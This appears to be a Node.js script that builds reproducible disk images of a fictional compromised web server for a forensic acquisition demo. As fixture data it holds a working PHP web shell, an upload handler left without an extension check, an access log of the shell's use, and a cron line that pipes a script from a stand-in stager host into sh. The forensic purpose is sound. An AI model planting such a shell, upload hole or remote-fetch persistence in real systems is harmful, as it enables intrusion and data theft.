// The demo's disk images: two small ext4 file systems of a compromised web server, built without
// root (`mkfs.ext4 -d DIR`) and byte-for-byte reproducible, so their SHA-256 is known before any
// AWS call and the acquisition hash can be checked against it.
//   - root: /etc (users, hostname), the web root with a planted web shell
//     (var/www/html/uploads/.cache.php), nginx's access log showing the upload and the shell's use,
//     a cron entry that fetches and runs a script every ten minutes (persistence), and the deploy
//     user's shell history;
//   - data: the application's data and logs (mounted at /srv on the instance).
// Reproducible: a fixed UUID and directory hash seed, our own mke2fs.conf (not the distribution's),
// E2FSPROGS_FAKE_TIME for the superblock, LC_ALL=C (mke2fs -d adds entries in alphasort order), and
// every inode's owner and times set explicitly with debugfs afterwards (mke2fs copies ctime and atime
// from the build tree, which no one can set). Built once and cached under .cache/fixture-images/,
// keyed by this script's own hash and the mke2fs version.
//
// As a script (scripts/fixture-images): builds or reuses the images and prints, per image, the
// SHA-256 of the image padded with zeros to the volume size — what `sha256sum /dev/nvme1n1` gives
// on a volume restored from it — computed here independently of cleanroom (Node's crypto over the
// file, then the zeros). `--json` prints the images as one JSON line; `--out DIR` builds into DIR
// instead of the cache.
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createReadStream, existsSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, readFile, rename, rm, stat, truncate, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';

const exec = promisify(execFile);
// e2fsprogs live in /usr/sbin, which a user's PATH may lack (they need no root).
const SBIN = { ...process.env, PATH: `${process.env.PATH ?? ''}:/usr/sbin:/sbin` };
const run = (cmd, args, opts = {}) =>
  exec(cmd, args, { env: SBIN, ...opts }).catch((e) => {
    if (e.code === 'ENOENT')
      throw new Error(`${cmd} not found: the fixture images need e2fsprogs 1.43 or newer (apt-get install e2fsprogs)`);
    throw e;
  });
const SCRIPT = fileURLToPath(import.meta.url);
const ROOT = path.resolve(path.dirname(SCRIPT), '..');

/** Each image becomes a volume of this size (GiB): the hash covers every byte of it. */
export const VOLUME_GIB = 1;
export const VOLUME_BYTES = VOLUME_GIB * 2 ** 30;

/** The superblock's creation and write time (E2FSPROGS_FAKE_TIME) — before the intrusion. */
const MKFS_TIME = '2026-09-01T00:00:00Z';

// The standard ext4 feature set of mke2fs.conf, written here so the distribution's file does not decide.
const MKE2FS_CONF = `[defaults]
	base_features = sparse_super,large_file,filetype,resize_inode,dir_index,ext_attr
	default_mntopts = acl,user_xattr
	enable_periodic_fsck = 0
	blocksize = 4096
	inode_size = 256
	inode_ratio = 16384
[fs_types]
	ext4 = {
		features = has_journal,extent,huge_file,flex_bg,metadata_csum,64bit,dir_nlink,extra_isize
	}
`;

const ROOT_UID = 0;
const WWW = 33; // www-data
const DEPLOY = 1000;
const CRONTAB_GID = 101;

const PASSWD = `root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
deploy:x:1000:1000:Deploy user:/home/deploy:/bin/bash
`;

const INDEX_PHP = `<?php
// Acme Widgets storefront
require __DIR__ . '/lib/catalog.php';
$items = catalog_list($_GET['page'] ?? 1);
include __DIR__ . '/templates/index.html.php';
`;

const UPLOAD_PHP = `<?php
// Customer image upload (no extension check: the hole the intruder used)
if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_FILES['image'])) {
    move_uploaded_file($_FILES['image']['tmp_name'], __DIR__ . '/uploads/' . basename($_FILES['image']['name']));
    echo 'ok';
}
`;

/** The planted web shell (inert text in an image; the demo never runs it). */
export const WEB_SHELL = `<?php if (isset($_REQUEST['cmd'])) { echo '<pre>' . shell_exec($_REQUEST['cmd']) . '</pre>'; } ?>
`;

const ATTACKER = '198.51.100.23';
const STAGER = '203.0.113.66';
const UA = '"Mozilla/5.0 (X11; Linux x86_64)"';
const ACCESS_LOG = [
  `192.0.2.10 - - [27/Nov/2026:22:01:13 +0000] "GET / HTTP/1.1" 200 5120 "-" ${UA}`,
  `192.0.2.44 - - [27/Nov/2026:23:45:02 +0000] "GET /?page=2 HTTP/1.1" 200 4877 "-" ${UA}`,
  `${ATTACKER} - - [28/Nov/2026:03:13:55 +0000] "GET /upload.php HTTP/1.1" 200 412 "-" "python-requests/2.31.0"`,
  `${ATTACKER} - - [28/Nov/2026:03:14:07 +0000] "POST /upload.php HTTP/1.1" 200 2 "-" "python-requests/2.31.0"`,
  `${ATTACKER} - - [28/Nov/2026:03:14:21 +0000] "GET /uploads/.cache.php?cmd=id HTTP/1.1" 200 61 "-" "python-requests/2.31.0"`,
  `${ATTACKER} - - [28/Nov/2026:03:14:40 +0000] "GET /uploads/.cache.php?cmd=cat+/etc/passwd HTTP/1.1" 200 318 "-" "python-requests/2.31.0"`,
  `${ATTACKER} - - [28/Nov/2026:03:15:12 +0000] "POST /uploads/.cache.php HTTP/1.1" 200 11 "-" "python-requests/2.31.0"`,
  `${ATTACKER} - - [28/Nov/2026:03:16:30 +0000] "GET /uploads/.cache.php?cmd=crontab+-l HTTP/1.1" 200 97 "-" "python-requests/2.31.0"`,
  `192.0.2.10 - - [28/Nov/2026:08:02:44 +0000] "GET / HTTP/1.1" 200 5120 "-" ${UA}`,
  '',
].join('\n');

const CRONTAB = `# DO NOT EDIT THIS FILE - edit the master and reinstall.
*/10 * * * * curl -fsS http://${STAGER}/k.sh | sh >/dev/null 2>&1
`;

const BASH_HISTORY = `cd /var/www/html
git pull
sudo systemctl reload nginx
tail -n 50 /var/log/nginx/access.log
ls -la uploads/
exit
`;

/**
 * What each image holds: path -> [content, mode, uid, gid, mtime]. Directories not listed are
 * created 0755 root, at MKFS_TIME.
 */
export const IMAGES = [
  {
    name: 'root',
    device: '/dev/xvda',
    sizeMiB: 32,
    label: 'web-01-root',
    uuid: '0c1ea7c0-0013-4d0e-8a00-000000000001',
    hashSeed: '0c1ea7c0-0013-4d0e-8a00-0000000000a1',
    files: {
      'etc/hostname': ['web-01\n', 0o644, ROOT_UID, 0, '2026-09-01T00:10:00Z'],
      'etc/passwd': [PASSWD, 0o644, ROOT_UID, 0, '2026-09-01T00:10:00Z'],
      'etc/nginx/sites-enabled/default': [
        'server {\n  listen 80;\n  root /var/www/html;\n  index index.php;\n  location ~ \\.php$ { fastcgi_pass unix:/run/php/php8.2-fpm.sock; include fastcgi.conf; }\n}\n',
        0o644,
        ROOT_UID,
        0,
        '2026-09-01T00:20:00Z',
      ],
      'var/www/html/index.php': [INDEX_PHP, 0o644, DEPLOY, DEPLOY, '2026-10-14T09:30:00Z'],
      'var/www/html/upload.php': [UPLOAD_PHP, 0o644, DEPLOY, DEPLOY, '2026-10-14T09:30:00Z'],
      'var/www/html/uploads/.cache.php': [WEB_SHELL, 0o644, WWW, WWW, '2026-11-28T03:14:07Z'],
      'var/www/html/uploads/logo.png.txt': ['(customer upload placeholder)\n', 0o644, WWW, WWW, '2026-11-02T12:00:00Z'],
      'var/log/nginx/access.log': [ACCESS_LOG, 0o640, WWW, 4, '2026-11-28T08:02:44Z'],
      'var/spool/cron/crontabs/www-data': [CRONTAB, 0o600, WWW, CRONTAB_GID, '2026-11-28T03:16:02Z'],
      'home/deploy/.bash_history': [BASH_HISTORY, 0o600, DEPLOY, DEPLOY, '2026-11-20T17:41:09Z'],
    },
  },
  {
    name: 'data',
    device: '/dev/sdf',
    sizeMiB: 16,
    label: 'web-01-data',
    uuid: '0c1ea7c0-0013-4d0e-8a00-000000000002',
    hashSeed: '0c1ea7c0-0013-4d0e-8a00-0000000000a2',
    files: {
      'app/config.yml': [
        'database:\n  path: /srv/app/data/shop.db\nuploads: /var/www/html/uploads\n',
        0o640,
        DEPLOY,
        DEPLOY,
        '2026-10-14T09:30:00Z',
      ],
      'app/data/orders.csv': [
        'order_id,customer,total\n1001,C-0042,19.90\n1002,C-0007,129.00\n1003,C-0042,45.50\n',
        0o640,
        DEPLOY,
        DEPLOY,
        '2026-11-27T23:59:00Z',
      ],
      'app/data/customers.csv': [
        'customer,name,email\nC-0007,Example Person,person@example.com\nC-0042,Another Person,another@example.org\n',
        0o640,
        DEPLOY,
        DEPLOY,
        '2026-11-27T23:59:00Z',
      ],
      'logs/app.log': [
        '2026-11-28T03:15:12Z INFO export customers.csv requested by 127.0.0.1 (local)\n2026-11-28T03:15:13Z INFO export finished: 2 rows\n',
        0o644,
        DEPLOY,
        DEPLOY,
        '2026-11-28T03:15:13Z',
      ],
    },
  },
];

const sec = (iso) => Math.floor(Date.parse(iso) / 1000);

/** Build one image into `out` (a new file). Needs mkfs.ext4 and debugfs (e2fsprogs), not root. */
export async function buildImage(spec, out) {
  const work = await mkdtemp(path.join(tmpdir(), `cleanroom-fixture-${spec.name}-`));
  try {
    const tree = path.join(work, 'tree');
    const dirs = new Set(['']);
    for (const rel of Object.keys(spec.files))
      for (let d = path.posix.dirname(rel); d !== '.'; d = path.posix.dirname(d)) dirs.add(d);
    for (const d of dirs) await mkdir(path.join(tree, d), { recursive: true });
    for (const [rel, [content, mode]] of Object.entries(spec.files)) {
      await writeFile(path.join(tree, rel), content);
      await chmod(path.join(tree, rel), mode);
    }
    // mtimes as the story has them (touch -d); debugfs below sets every inode's times and owner too.
    const sorted = [...dirs].sort((a, b) => b.length - a.length);
    for (const [rel, [, , , , mtime]] of Object.entries(spec.files))
      await utimes(path.join(tree, rel), sec(mtime), sec(mtime));
    for (const d of sorted) {
      await chmod(path.join(tree, d), 0o755);
      await utimes(path.join(tree, d), sec(MKFS_TIME), sec(MKFS_TIME));
    }

    const conf = path.join(work, 'mke2fs.conf');
    await writeFile(conf, MKE2FS_CONF);
    const env = { ...SBIN, LC_ALL: 'C', MKE2FS_CONFIG: conf, E2FSPROGS_FAKE_TIME: String(sec(MKFS_TIME)) };
    const tmp = `${out}.tmp`;
    await rm(tmp, { force: true });
    await writeFile(tmp, '');
    await truncate(tmp, spec.sizeMiB * 2 ** 20);
    await run(
      'mkfs.ext4',
      [
        '-q',
        '-F',
        '-t',
        'ext4',
        '-L',
        spec.label,
        '-U',
        spec.uuid,
        '-E',
        `hash_seed=${spec.hashSeed},root_owner=0:0,lazy_itable_init=0,lazy_journal_init=0,nodiscard`,
        '-d',
        tree,
        tmp,
      ],
      { env },
    );

    const cmds = [];
    const set = (p, uid, gid, t) => {
      for (const f of ['atime', 'mtime', 'ctime', 'crtime']) cmds.push(`sif "/${p}" ${f} @${t}`);
      cmds.push(`sif "/${p}" uid ${uid}`, `sif "/${p}" gid ${gid}`);
    };
    for (const d of [...dirs].sort()) set(d, 0, 0, sec(MKFS_TIME));
    for (const [rel, [, , uid, gid, mtime]] of Object.entries(spec.files).sort()) set(rel, uid, gid, sec(mtime));
    const script = path.join(work, 'debugfs.cmds');
    await writeFile(script, `${cmds.join('\n')}\n`);
    const { stderr } = await run('debugfs', ['-w', '-f', script, tmp], { env });
    const problems = stderr.split('\n').filter((l) => l.trim() && !/^debugfs \d/.test(l));
    if (problems.length) throw new Error(`debugfs on the ${spec.name} image: ${problems.join('; ')}`);
    await rename(tmp, out);
  } finally {
    await rm(work, { recursive: true, force: true });
  }
}

/** SHA-256 of a file and of that file padded with zeros to `volumeBytes` (the attached device). */
export async function imageHashes(file, volumeBytes = VOLUME_BYTES) {
  const image = createHash('sha256');
  const device = createHash('sha256');
  let n = 0;
  for await (const chunk of createReadStream(file, { highWaterMark: 2 ** 20 })) {
    image.update(chunk);
    device.update(chunk);
    n += chunk.length;
  }
  if (n > volumeBytes) throw new Error(`${file} (${n} bytes) does not fit a ${volumeBytes}-byte volume`);
  const zeros = Buffer.alloc(8 * 2 ** 20);
  for (let left = volumeBytes - n; left > 0; left -= zeros.length)
    device.update(left >= zeros.length ? zeros : zeros.subarray(0, left));
  return { imageBytes: n, imageSha256: image.digest('hex'), deviceSha256: device.digest('hex') };
}

async function cacheKey() {
  const { stdout, stderr } = await run('mke2fs', ['-V']);
  return createHash('sha256')
    .update(await readFile(SCRIPT))
    .update(`${stdout}${stderr}`.split('\n')[0] ?? '')
    .digest('hex')
    .slice(0, 16);
}

/**
 * The fixture images, built once into .cache/fixture-images/<key>/ (or `dir`), with their hashes:
 * [{ name, device, path, imageBytes, imageSha256, volumeGiB, deviceSha256 }].
 */
export async function fixtureImages({ dir } = {}) {
  const at = dir ?? path.join(ROOT, '.cache', 'fixture-images', await cacheKey());
  const index = path.join(at, 'images.json');
  if (existsSync(index)) {
    const cached = JSON.parse(await readFile(index, 'utf8'));
    if (cached.every((i) => existsSync(i.path))) return cached;
  }
  if (!dir) await rm(path.dirname(at), { recursive: true, force: true }); // images of an older version of this script
  await mkdir(at, { recursive: true });
  const images = [];
  for (const spec of IMAGES) {
    const file = path.join(at, `${spec.name}.img`);
    if (!existsSync(file) || (await stat(file)).size !== spec.sizeMiB * 2 ** 20) await buildImage(spec, file);
    images.push({
      name: spec.name,
      device: spec.device,
      path: file,
      volumeGiB: VOLUME_GIB,
      ...(await imageHashes(file)),
    });
  }
  await writeFile(index, `${JSON.stringify(images, null, 2)}\n`);
  return images;
}

if (process.argv[1] && path.resolve(process.argv[1]) === SCRIPT) {
  const out = process.argv.indexOf('--out');
  const images = await fixtureImages(out > 0 ? { dir: path.resolve(process.argv[out + 1] ?? '') } : {});
  if (process.argv.includes('--json')) process.stdout.write(`${JSON.stringify(images)}\n`);
  else
    for (const i of images)
      console.log(
        `${i.name} image ${i.path} (${i.imageBytes} bytes), SHA-256 padded to ${i.volumeGiB} GiB (the ${i.device} device): ${i.deviceSha256}`,
      );
}
